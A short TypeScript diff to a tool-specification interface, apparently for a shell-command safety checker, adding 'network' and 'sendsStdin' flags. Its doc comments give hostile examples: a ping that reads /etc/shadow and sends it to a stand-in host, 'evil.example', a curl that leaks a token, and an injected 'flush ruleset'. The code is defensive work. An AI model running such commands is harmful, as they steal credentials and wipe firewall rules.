@@ -34,6 +34,13 @@ export interface ToolSpec {
    * commands (`nft list ruleset \; flush ruleset`): every argument must be fixed text without them.
    */
   argvScript?: boolean;
+  /**
+   * The tool talks to another host: every argument must be fixed text, since a run-time word
+   * (`ping $(cat /etc/shadow | head -1).evil.example`, `curl …/$TOKEN`) carries local data away.
+   */
+  network?: boolean;
+  /** The tool sends its standard input to the peer: that input must be text the command shows. */
+  sendsStdin?: boolean;
   /** Programs the tool itself runs to do its work (`zcat` runs `gzip`), named for the oracle. */
   helpers?: readonly string[];
   /** Replaces the table: the whole argument list is judged by this function (`pct exec`). */
